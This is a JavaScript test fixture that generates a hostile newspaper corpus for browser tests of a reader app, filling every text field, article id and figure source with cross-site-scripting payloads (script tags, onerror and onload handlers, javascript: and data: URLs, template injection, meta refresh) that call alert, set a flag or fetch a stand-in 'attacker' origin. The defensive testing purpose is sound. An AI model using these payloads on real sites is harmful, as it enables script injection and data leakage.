// A hostile corpus for the browser tests: valid corpus format v1 in which
// every text field (titles, labels, ids, kicker, headline, deck, byline,
// paragraphs, subheads, captions, credits, jump labels, a publication's
// language) holds markup and script. Generated here, deterministically,
// rather than committed: one headline alone is a megabyte.
//
// Every payload that would run if corpus text were ever parsed as HTML, or
// used as a URL, leaves a trace a test can see: it sets `window.__pwned`,
// calls alert(), or requests a URL on the "attacker" origin the test passes
// in, tagged with the field it came from.
//
// It is not a corpus of realistic news: it is what a hostile or broken
// pipeline could hand the reader, and it stays valid so the reader shows it.

/** The text every payload carries, as it must appear in the reader. */
export const MARKERS = {
  onerror: '<img src=x onerror=',
  script: '<script>',
  svg: '"><svg onload=',
  closeMark: '</mark><b>',
  rtl: '\u202Edesrever',
  zeroWidth: 'zero\u200Bwidth\u200Djoiner\uFEFFbom',
  loneSurrogates: 'lone \uFFFD high, \uFFFD low', // as the reader shows them
};

/**
 * The payloads of one field. `attacker` is the attacker origin
 * (`http://127.0.0.1:PORT`); `field` names the field in every trace.
 */
export function payloads(attacker, field) {
  const url = (how) => `${attacker}/${how}/${field}`;
  const run = (how) => `window.__pwned='${field}:${how}';alert('${how}');fetch('${url(how)}')`;
  return [
    `${MARKERS.onerror}"${run('onerror')}">`,
    `${MARKERS.script}${run('script')}</script><script src="${url('script-src')}"></script>`,
    `${MARKERS.svg}"${run('svg')}">`,
    `'><iframe src="javascript:parent.${run('iframe')}"></iframe><a href="javascript:${run('href')}">click</a>`,
    `" onmouseover="${run('attribute')}" autofocus onfocus="${run('focus')}" x="`,
    `${MARKERS.closeMark}bold</b><mark>`,
    `{{constructor.constructor("${run('template')}")()}} \${alert(1)} <%= 7*7 %> {} {0}`,
    `<img src="${url('markup-img')}.png"><link rel=stylesheet href="${url('link')}"><style>@import url(${url('import')})</style>`,
    `<meta http-equiv="refresh" content="0;url=${url('refresh')}"><object data="${url('object')}"></object><base href="${url('base')}/">`,
    `RTL ${MARKERS.rtl} txt.exe`,
    MARKERS.zeroWidth,
    // Lone surrogates: JSON.stringify writes them as `\ud800` escapes.
    'lone \ud800 high, \udc00 low',
  ];
}

/** All of one field's payloads as one line. */
export const line = (attacker, field) => payloads(attacker, field).join(' ');

/** The figure `src` values of the corpus: every one is safe by the format's
 * rule (http(s) or relative); those on the attacker origin are the only
 * requests it may receive. */
export function figureSources(attacker) {
  const host = attacker.replace(/^https?:/, '');
  return {
    allowed: `${attacker}/allowed.png`,
    // An image that is allowed to load, whose SVG holds script: as an image it must not run.
    scriptedSvg: `${attacker}/allowed.svg`,
    protocolRelative: `${host}/protocol-relative.png`,
    relative: 'img/harbour.svg',
    // A relative path whose file name is markup, and a query that is markup.
    markupName: 'img/"><svg onload=alert(1)>.svg',
    markupQuery: `img/harbour.svg?"><script>alert(1)</script>`,
  };
}

/** The files the relative figure sources name, for the fixture site to serve. */
export const relativeFiles = (attacker) => {
  const { relative, markupName } = figureSources(attacker);
  return [relative, markupName];
};

/** Figure `src` values the format refuses: a corpus holding one is not shown. */
export const UNSAFE_SOURCES = [
  'javascript:window.__pwned="src";alert(1)',
  ' JaVa\tScRiPt:alert(1)',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1;alert(1)"><script>alert(2)</script></svg>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
];

/** Article ids: markup, and the characters a route must escape. */
export const IDS = {
  lead: 'lead"><svg onload=alert(1)>',
  continued: '<img src=x onerror=alert(1)>/?#%&~ \u202E',
  huge: 'huge{{7*7}}',
  toMissingPage: "'><script>alert(1)</script>",
  other: 'other\u200B',
};

const DATE = '2024-09-12';

/**
 * The corpus as JSON text. `headlineBytes` is the size of the one huge
 * headline (a megabyte by default: no field is trusted to be short).
 */
export function hostileCorpus(attacker, { headlineBytes = 1_048_576 } = {}) {
  const p = (field) => line(attacker, field);
  const src = figureSources(attacker);
  const paragraphs = (field) => payloads(attacker, field).map((text) => ({ type: 'paragraph', text }));
  const figure = (field, source, placement = 'above') => ({
    type: 'figure', src: source, caption: p(`${field}-caption`), credit: p(`${field}-credit`), placement,
  });
  const lead = {
    id: IDS.lead, page: 1,
    kicker: p('kicker'), headline: p('headline'), deck: p('deck'), byline: p('byline'),
    blocks: [
      figure('figure-allowed', src.allowed),
      ...paragraphs('paragraph'),
      { type: 'subhead', text: p('subhead') },
      figure('figure-svg', src.scriptedSvg, 'below'),
      figure('figure-protocol-relative', src.protocolRelative, 'left'),
      figure('figure-relative', src.relative, 'right'),
      figure('figure-markup-name', src.markupName, null),
      figure('figure-markup-query', src.markupQuery),
      figure('figure-none', null),
    ],
    continued_from: null,
    continued_on: { page: 2, label: p('jump-on-label'), article: IDS.continued },
  };
  const continued = {
    // No headline: the reader titles it from its first sentence, markup and all.
    id: IDS.continued, page: 2, kicker: null, headline: null, deck: null, byline: null,
    blocks: paragraphs('continued-paragraph'),
    continued_from: { page: 1, label: p('jump-from-label'), article: IDS.lead },
    continued_on: null,
  };
  const huge = {
    id: IDS.huge, page: 1, kicker: null, headline: hugeHeadline(p('huge-headline'), headlineBytes),
    deck: null, byline: null, blocks: [{ type: 'paragraph', text: p('huge-paragraph') }],
    continued_from: null, continued_on: null,
  };
  const toMissingPage = {
    id: IDS.toMissingPage, page: 3, kicker: p('missing-kicker'), headline: p('missing-headline'), deck: null, byline: null,
    blocks: paragraphs('missing-paragraph'),
    continued_from: null,
    // The page it jumps to is not in the archive: the label is shown as text.
    continued_on: { page: 9, label: p('jump-missing-label'), article: null },
  };
  const other = {
    id: IDS.other, page: 1, kicker: p('other-kicker'), headline: p('other-headline'), deck: p('other-deck'), byline: p('other-byline'),
    blocks: paragraphs('other-paragraph'), continued_from: null, continued_on: null,
  };
  const corpus = {
    format: 'broadsheet-corpus', version: 1,
    publication: { title: p('publication-title'), lang: 'en' },
    editions: [
      {
        date: DATE,
        pages: [
          { number: 1, label: p('page-1-label') },
          { number: 2, label: p('page-2-label') },
          { number: 3, label: '{} {{page}} ${page}' },
        ],
        articles: [lead, huge, continued, toMissingPage],
      },
      {
        // A second paper of the same day, whose title and language are markup.
        date: DATE,
        publication: { title: p('edition-title'), lang: 'en-x-"><svg onload=alert(1)>' },
        pages: [{ number: 1, label: null }],
        articles: [other],
      },
    ],
  };
  return JSON.stringify(corpus);
}

/** `payload`, then one unbroken run of letters (the worst case for layout),
 * then `payload` repeated up to `bytes` UTF-8 bytes. */
function hugeHeadline(payload, bytes) {
  const unbroken = 'W'.repeat(Math.min(20_000, bytes / 4));
  const text = `${payload} ${unbroken} `;
  const unit = `${payload} `;
  const repeats = Math.max(0, Math.ceil((bytes - Buffer.byteLength(text)) / Buffer.byteLength(unit)));
  return text + unit.repeat(repeats);
}

/** A corpus the reader must refuse (its figure sources are unsafe), whose
 * problems it lists as text; otherwise as hostile as the valid one. */
export function unsafeSourceCorpus(attacker) {
  const corpus = JSON.parse(hostileCorpus(attacker, { headlineBytes: 1024 }));
  const lead = corpus.editions[0].articles[0];
  lead.blocks.push(...UNSAFE_SOURCES.map((source) => ({ type: 'figure', src: source, caption: line(attacker, 'unsafe'), credit: null, placement: null })));
  return JSON.stringify(corpus);
}
